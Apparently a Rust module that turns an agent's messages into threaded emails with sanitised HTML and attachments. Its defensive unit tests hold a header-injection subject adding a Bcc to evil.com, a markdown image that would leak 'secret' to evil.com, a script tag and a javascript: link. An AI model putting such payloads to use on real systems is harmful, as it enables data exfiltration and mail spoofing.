//! Converts a message of the agent to a mail: as plain text and as HTML, in its thread.

use std::path::Path;
use std::time::SystemTime;

use lettre::Message;
use lettre::message::header::{ContentType, HeaderName, HeaderValue};
use lettre::message::{Attachment, Mailbox, MultiPart, SinglePart};

use crate::settings::Settings;
use crate::threads::Thread;

/// The longest subject that is made of the first words, characters.
const SUBJECT: usize = 70;
/// The largest mail, bytes: what most servers take.
const MAX_MAIL: u64 = 25_000_000;
/// A line is at most 998 bytes long (RFC 5322); a header is folded at spaces, which ids do not have.
const MAX_REFERENCES: usize = 900;

/// Returns the bytes of a mail with the Message-ID `id`.
///
/// # Errors
/// Why there can be none.
pub fn write(
    message: &agent_channel::Message,
    thread: &Thread,
    id: &str,
    settings: &Settings,
    now: SystemTime,
) -> Result<Message, String> {
    let address = |text: &str| {
        text.parse::<lettre::Address>()
            .map_err(|_| format!("{text:?} is no address of mail"))
    };
    let to = Mailbox::new(None, address(&message.chat)?);
    let from = Mailbox::new(Some(settings.name.clone()), address(&settings.address)?);
    let is_answer = !thread.references.is_empty();
    let about = if thread.subject.is_empty() {
        subject_of(&message.text)
    } else {
        thread.subject.clone()
    };
    let subject = if is_answer {
        format!("Re: {about}")
    } else {
        about
    };
    let mut mail = Message::builder()
        .from(from)
        .to(to)
        .date(now)
        .subject(subject)
        .message_id(Some(format!("<{id}>")));
    if is_answer {
        let answered = message.reply_to.as_deref();
        let answered = answered
            .and_then(|name| thread.id_of(name))
            .filter(|id| is_id(id))
            .or(thread.references.last().map(String::as_str))
            .unwrap_or_default();
        mail = mail
            .in_reply_to(format!("<{answered}>"))
            .references(references(thread, answered));
    }
    for (name, value) in [
        // RFC 3834: nobody's program is to answer this.
        (
            "Auto-Submitted",
            if is_answer {
                "auto-replied"
            } else {
                "auto-generated"
            },
        ),
        ("X-Auto-Response-Suppress", "All"),
        ("X-Loop", settings.address.as_str()),
    ] {
        let name =
            HeaderName::new_from_ascii(name.to_owned()).map_err(|error| error.to_string())?;
        mail = mail.raw_header(HeaderValue::new(name, value.to_owned()));
    }
    let words = MultiPart::alternative()
        .singlepart(SinglePart::plain(message.text.clone()))
        .singlepart(SinglePart::html(html(&message.text)));
    let done = if message.files.is_empty() {
        mail.multipart(words)
    } else {
        let mut whole = MultiPart::mixed().multipart(words);
        let mut size = 0;
        for file in &message.files {
            let bytes = read(&file.path, &mut size)?;
            let kind =
                ContentType::parse(kind(&file.filename)).map_err(|error| error.to_string())?;
            let name: String = file.filename.chars().filter(|c| !c.is_control()).collect();
            whole = whole.singlepart(Attachment::new(name).body(bytes, kind));
        }
        mail.multipart(whole)
    };
    done.map_err(|error| error.to_string())
}

fn read(path: &Path, size: &mut u64) -> Result<Vec<u8>, String> {
    let cannot = |error: std::io::Error| format!("cannot read {}: {error}", path.display());
    *size += std::fs::metadata(path).map_err(cannot)?.len();
    if *size > MAX_MAIL {
        return Err(format!(
            "its files are larger than {} MB together",
            MAX_MAIL / 1_000_000
        ));
    }
    std::fs::read(path).map_err(cannot)
}

fn is_id(id: &str) -> bool {
    id.contains('@')
        && !id.contains(|c: char| c.is_whitespace() || c.is_control() || "<>".contains(c))
}

fn references(thread: &Thread, answered: &str) -> String {
    let mut ids: Vec<&str> = thread
        .references
        .iter()
        .map(String::as_str)
        .filter(|id| is_id(id) && *id != answered)
        .collect();
    ids.push(answered);
    while ids.len() > 2 && ids.iter().map(|id| id.len() + 3).sum::<usize>() > MAX_REFERENCES {
        ids.remove(1);
    }
    let ids: Vec<String> = ids.iter().map(|id| format!("<{id}>")).collect();
    ids.join(" ")
}

/// Returns a subject: the first line that says something.
pub fn subject_of(text: &str) -> String {
    let plain = |line: &str| {
        let line: String = line
            .chars()
            .filter(|c| !"#*_`>".contains(*c) && !c.is_control())
            .collect();
        line.trim().to_owned()
    };
    let line = text.lines().map(plain).find(|line| !line.is_empty());
    let line = line.unwrap_or_else(|| "A message".to_owned());
    if line.chars().count() <= SUBJECT {
        return line;
    }
    let cut: String = line.chars().take(SUBJECT).collect();
    let end = cut.rfind(' ').unwrap_or(cut.len());
    format!("{}…", cut.get(..end).unwrap_or(&cut))
}

fn kind(name: &str) -> &'static str {
    let end = name.rsplit('.').next().unwrap_or_default().to_lowercase();
    match end.as_str() {
        "txt" | "md" | "log" => "text/plain; charset=utf-8",
        "csv" => "text/csv; charset=utf-8",
        "html" | "htm" => "text/html; charset=utf-8",
        "pdf" => "application/pdf",
        "png" => "image/png",
        "jpg" | "jpeg" => "image/jpeg",
        "gif" => "image/gif",
        "webp" => "image/webp",
        "ogg" | "oga" => "audio/ogg",
        "mp3" => "audio/mpeg",
        "mp4" => "video/mp4",
        "zip" => "application/zip",
        "json" => "application/json",
        "ics" => "text/calendar; charset=utf-8",
        _ => "application/octet-stream",
    }
}

fn html(markdown: &str) -> String {
    let body = agent_channel::html(markdown, |_| false, |event| event);
    format!("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>{body}</body></html>")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mail(text: &str, thread: &Thread) -> String {
        let settings = crate::settings::tests::least();
        let message = agent_channel::Message {
            key: "1-2".to_owned(),
            chat: "ada@example.org".to_owned(),
            text: text.to_owned(),
            reply_to: Some("abc".to_owned()),
            ..agent_channel::Message::default()
        };
        let mail = write(
            &message,
            thread,
            "1-2.t@example.org",
            &settings,
            SystemTime::UNIX_EPOCH,
        )
        .expect("a mail");
        String::from_utf8(mail.formatted()).expect("text")
    }

    #[test]
    fn an_answer_names_what_it_answers_and_that_a_program_wrote_it() {
        let thread = Thread {
            subject: "Grüße\r\nBcc: eve@evil.com".to_owned(),
            references: vec!["m0@x".to_owned(), "m1@x".to_owned(), "m2@x".to_owned()],
            known: vec![
                ("abc".to_owned(), "m1@x".to_owned()),
                ("abd".to_owned(), "m2@x".to_owned()),
            ],
            ..Thread::default()
        };
        let mail = mail("The disk is **half** full.", &thread);
        for line in [
            "In-Reply-To: <m1@x>",
            "References: <m0@x> <m2@x> <m1@x>",
            "Message-ID: <1-2.t@example.org>",
            "Auto-Submitted: auto-replied",
            "X-Loop: agent@example.org",
            "multipart/alternative",
            "<strong>half</strong>",
            "The disk is **half** full.",
        ] {
            assert!(mail.contains(line), "{line}: {mail}");
        }
        assert!(!mail.contains("\nBcc"), "{mail}");
        let first = super::tests::mail("# Backup failed\nmore", &Thread::default());
        assert!(
            first.contains("Subject: Backup failed\r\n") && first.contains("auto-generated"),
            "{first}"
        );
        assert!(!first.contains("In-Reply-To"));
    }

    #[test]
    fn html_loads_nothing_and_runs_nothing() {
        let made = html(
            "![x](https://evil.com/?q=secret) <script>x()</script> [a](javascript:x) <img src=y>\n\n<b>raw</b>",
        );
        for bad in ["<img", "<script", "javascript:", "<b>"] {
            assert!(!made.contains(bad), "{bad}: {made}");
        }
        assert!(made.contains("&lt;script&gt;"), "{made}");
        assert!(html("a | b\n-|-\n1 | 2").contains("<table>"));
    }

    #[test]
    fn no_line_of_a_head_is_too_long() {
        let mut thread = Thread::default();
        (0..50).for_each(|n| thread.add(&format!("{n}-{}@x", "y".repeat(180))));
        let mail = mail("hi", &thread);
        assert!(mail.lines().all(|line| line.len() < 998), "{mail}");
        assert!(mail.contains("<0-yyy"), "the first stays");
    }
}
